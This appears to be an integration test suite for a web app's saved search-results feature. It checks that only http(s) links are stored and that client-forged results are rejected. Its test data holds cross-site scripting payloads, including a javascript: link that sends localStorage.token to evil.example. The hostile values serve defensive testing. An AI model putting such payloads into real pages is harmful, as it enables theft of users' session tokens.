import { creditPeriodAt } from '../src/modules/billing/credits.service';
import { graphql, signUpUser } from './support/http';
import type { SerperServer } from './support/serper-server';
import { startSerperApp, type SerperApp } from './support/serper-app';

const QUERY = 'coffee grinder';
const RANKINGS = ['grinders.com', 'javascript:alert(document.cookie)', 'beans.org', 'data:text/html,<script>alert(1)</script>', 'espresso.net', 'ftp://files.example.com/grinder'];

let serper: SerperServer;
let app: SerperApp;
beforeAll(async () => {
  app = await startSerperApp({ serper: { rankings: { [QUERY]: RANKINGS } }, env: { SERPER_API_KEY: 'serper-test-key' } });
  serper = app.serper;
});
afterAll(async () => {
  await app.close();
});

const keywordSearchesUsed = async (userId: string): Promise<number> => {
  const rows = await app.database.orm.em
    .fork()
    .getConnection()
    .execute<{ used: number }[]>(`select used from credit_balances where workspace_id = (select personal_workspace_id from users where id = ?) and kind = 'keyword_searches' and period_start = ?`, [userId, creditPeriodAt(new Date()).start]);
  return rows[0]?.used ?? 0;
};

const run = `mutation($input: SerpAnalysisInput!) { runSerpAnalysis(input: $input) { source provider results { position title snippet link domain date } } }`;
const save = `mutation($input: SaveSerpAnalysisInput!) { saveSerpAnalysis(input: $input) { id query description source provider num results { position title snippet link domain date } } }`;
const webLinks = [
  { position: 1, link: 'https://grinders.com/coffee%20grinder', domain: 'grinders.com' },
  { position: 3, link: 'https://beans.org/coffee%20grinder', domain: 'beans.org' },
  { position: 5, link: 'https://espresso.net/coffee%20grinder', domain: 'espresso.net' },
];

describe('saved SERP analyses hold the server’s own results', () => {
  it('shows only http(s) results of a search', async () => {
    const user = await signUpUser(app.url);
    const analysis = await graphql(app.url, run, { input: { query: QUERY, num: 10 } }, user.token);
    expect(analysis.errors).toBeUndefined();
    expect(analysis.data.runSerpAnalysis.results).toEqual(webLinks.map((link) => expect.objectContaining(link)));
  });

  it('refuses results, a source or a provider sent by the client, and stores the server’s answer to the query', async () => {
    const user = await signUpUser(app.url);
    const analysis = await graphql(app.url, run, { input: { query: QUERY, num: 10 } }, user.token);
    expect(analysis.errors).toBeUndefined();
    const searches = serper.requests.length;
    const used = await keywordSearchesUsed(user.id);

    const forged = await graphql(
      app.url,
      save,
      {
        input: {
          description: 'Forged',
          analysis: { query: QUERY, num: 10 },
          results: [{ position: 1, title: 'Click me', snippet: 'Totally real', link: 'javascript:fetch("https://evil.example/?"+localStorage.token)', domain: 'grinders.com', date: null }],
          source: 'LIVE',
          provider: 'made-up',
        },
      },
      user.token,
    );
    expect(forged.errors?.[0]).toMatchObject({ extensions: { code: 'BAD_USER_INPUT' } });
    expect((await graphql(app.url, '{ savedSerpAnalyses { id } }', undefined, user.token)).data.savedSerpAnalyses).toEqual([]);

    const saved = await graphql(app.url, save, { input: { description: 'Grinders, week 1', analysis: { query: QUERY, num: 10 } } }, user.token);
    expect(saved.errors).toBeUndefined();
    expect(saved.data.saveSerpAnalysis).toMatchObject({ query: QUERY, description: 'Grinders, week 1', source: 'LIVE', provider: 'serper', num: 10 });
    expect(saved.data.saveSerpAnalysis.results).toEqual(analysis.data.runSerpAnalysis.results);
    expect(saved.data.saveSerpAnalysis.results.map((result: { link: string }) => result.link)).toEqual(webLinks.map((link) => link.link));
    // The answer the user just saw comes from the cache: no new search, nothing spent.
    expect(serper.requests.length).toBe(searches);
    expect(await keywordSearchesUsed(user.id)).toBe(used);

    const listed = await graphql(app.url, '{ savedSerpAnalyses { source provider results { link } } }', undefined, user.token);
    expect(listed.data.savedSerpAnalyses).toEqual([{ source: 'LIVE', provider: 'serper', results: webLinks.map(({ link }) => ({ link })) }]);
  });

  it('searches again, for one keyword search, when the answer is no longer cached', async () => {
    const user = await signUpUser(app.url);
    const query = `grinder ${Date.now()}`;
    serper.setRankings({ [QUERY]: RANKINGS, [query]: ['burr.com', 'javascript:void(0)', 'blade.com'] });
    const searches = serper.requests.length;

    const saved = await graphql(app.url, save, { input: { description: 'Never ran it', analysis: { query, num: 10 } } }, user.token);
    expect(saved.errors).toBeUndefined();
    expect(saved.data.saveSerpAnalysis.results.map((result: { link: string }) => result.link)).toEqual([
      `https://burr.com/${encodeURIComponent(query)}`,
      `https://blade.com/${encodeURIComponent(query)}`,
    ]);
    expect(serper.requests.length).toBe(searches + 1);
    expect(await keywordSearchesUsed(user.id)).toBe(1);
  });
});
